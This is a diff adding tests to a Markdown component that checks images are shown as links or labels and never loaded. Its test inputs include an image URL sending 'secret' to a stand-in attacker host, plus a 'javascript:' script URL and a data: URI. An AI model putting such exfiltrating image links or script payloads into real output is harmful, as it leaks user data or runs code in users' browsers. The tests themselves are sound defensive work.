@@ -49,4 +49,28 @@ describe('Markdown', () => {
     expect(container.querySelector('img')).toBeNull();
     expect(screen.getByText('click').getAttribute('href')).toBe('');
   });
+
+  it('shows an image as a link naming its host, and loads nothing', () => {
+    const { container } = render(
+      <Markdown
+        text={'Logo: ![the logo](https://attacker.example/pixel.png?q=secret) and ![](/local.png)'}
+      />,
+    );
+
+    expect(container.querySelector('img')).toBeNull();
+    const remote = screen.getByRole('link', { name: 'Image: the logo (attacker.example)' });
+    expect(remote.getAttribute('href')).toBe('https://attacker.example/pixel.png?q=secret');
+    expect(remote.getAttribute('rel')).toBe('noopener noreferrer');
+    expect(screen.getByRole('link', { name: 'Image: untitled' }).getAttribute('href')).toBe('/local.png');
+  });
+
+  it('shows an image with an unsafe URL as a plain label', () => {
+    const { container } = render(
+      <Markdown text={'![x](javascript:alert(1)) ![ref][r]\n\n[r]: data:image/png,AAAA'} />,
+    );
+
+    expect(container.querySelector('img, a')).toBeNull();
+    expect(container.textContent).toContain('Image: x');
+    expect(container.textContent).toContain('Image: ref');
+  });
 });
